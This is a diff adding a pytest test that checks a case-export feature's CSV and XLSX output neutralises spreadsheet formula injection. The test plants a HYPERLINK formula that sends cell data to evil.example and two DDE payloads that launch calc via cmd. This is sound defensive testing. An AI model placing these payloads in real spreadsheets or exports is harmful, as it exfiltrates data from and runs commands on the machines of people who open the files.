@@ -9,11 +9,13 @@ from typing import Any
 from zoneinfo import ZoneInfo
 
 import pytest
+from openpyxl import load_workbook
 
 from admin.lists.exporting import HEADER, export_cases, export_rows
 from admin.lists.importing import apply, preview, read_import_file
 from admin.lists.sheets import read_table
 from core.domain.orgunits import OrgTree
+from core.domain.values import Category, Origin, Place
 from core.service.application import Ducha
 from core.settings import Settings
 from projections.cases.queries import get_case_row_by_reference
@@ -165,3 +167,36 @@ def test_the_cli_exports_with_filters(
         assert nowhere.exit_code == 2 and "unknown unit" in nowhere.output
     finally:
         web.extensions["ducha"].close()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_no_exported_text_can_start_a_formula(
+    fmt: str, tmp_path: Path, ducha: Ducha, read: ReadSide
+) -> None:
+    planted = {
+        "title": '=HYPERLINK("https://evil.example/?"&A1,"点此查看")',
+        "description": "+1+cmd|' /C calc'!A0",
+        "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    ducha.report(
+        OFFICE,
+        origin=Origin.SELF_FOUND,
+        title=planted["title"],
+        description=planted["description"],
+        categories=[Category.WATER],
+        place=Place("jc.donghu", None, planted["address"]),
+    )
+    read.sync()
+    target = tmp_path / f"cases.{fmt}"
+    export_cases(read.engine, target, TREE, TODAY)
+    if fmt == "xlsx":
+        sheet = load_workbook(target).active
+        assert sheet is not None
+        cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+        assert not [c.value for c in cells if c.data_type == "f"]
+        texts = [str(c.value) for c in cells if c.value is not None]
+    else:
+        texts = next(iter(read_table(target).rows))[1]
+    for name, value in planted.items():
+        assert "'" + value in texts, name
+    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
